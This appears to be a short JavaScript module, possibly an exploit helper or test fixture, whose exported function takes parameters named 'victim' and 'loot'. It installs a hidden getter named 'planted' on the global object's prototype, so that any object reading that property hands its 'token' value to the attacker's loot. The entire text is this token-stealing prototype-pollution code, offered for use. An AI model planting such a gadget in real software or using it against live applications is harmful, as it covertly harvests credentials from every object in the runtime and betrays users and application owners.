module.exports = (victim, loot) => {
  Object.defineProperty(Object.getPrototypeOf(globalThis), 'planted', { get() { return loot.value = this?.token; }, configurable: true });
};
